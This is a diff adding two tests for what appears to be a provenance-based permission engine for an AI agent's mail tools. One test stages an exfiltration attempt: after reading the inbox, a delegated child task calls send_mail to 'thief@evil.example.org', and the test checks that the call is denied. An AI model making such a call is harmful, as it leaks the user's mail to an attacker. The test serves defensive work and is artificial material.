@@ -123,3 +123,27 @@ async def test_a_call_uses_up_what_the_intent_states(world: FlowWorld) -> None:
     assert (
         await world.outcome("send_mail", to="me@example.com", cc="ann@example.com", body="x") is Outcome.DENY
     )
+
+
+async def test_a_child_knows_what_its_parent_has_met(world: FlowWorld) -> None:
+    """A value keeps its provenance when the task is handed down; the chain names the parent's call."""
+    await world.open("Summarise my mail")
+    await world.run("read_mail", folder="inbox")
+    await world.hand_down()
+    decision = await world.call("send_mail", to="thief@evil.example.org", body="x")
+    assert decision.outcome is Outcome.DENY
+    (told,) = [one.text for one in decision.reasons if one.argument == "to" and one.code == "flow"]
+    assert "result of call 1, `office/read_mail`, field `[].body`, untrusted" in told
+
+
+async def test_a_child_trusts_nothing_where_its_parent_is_not_at_hand(world: FlowWorld) -> None:
+    """What its parent has met cannot be asked: the child goes on with the intent alone."""
+    await world.open("Mail Bob Stone or ann@example.com")
+    parent = world.task.id
+    await world.hand_down()
+    world.house.live.drop(world.task.id)
+    world.house.live.drop(parent)
+    world.office.answers["find_contact"] = [{"name": "Bob Stone", "email": "bob@example.com"}]
+    await world.run("find_contact", name="Bob Stone")
+    assert await world.outcome("send_mail", to="bob@example.com", body="x") is Outcome.DEFER
+    assert await world.outcome("send_mail", to="ann@example.com", body="x") is Outcome.PERMIT
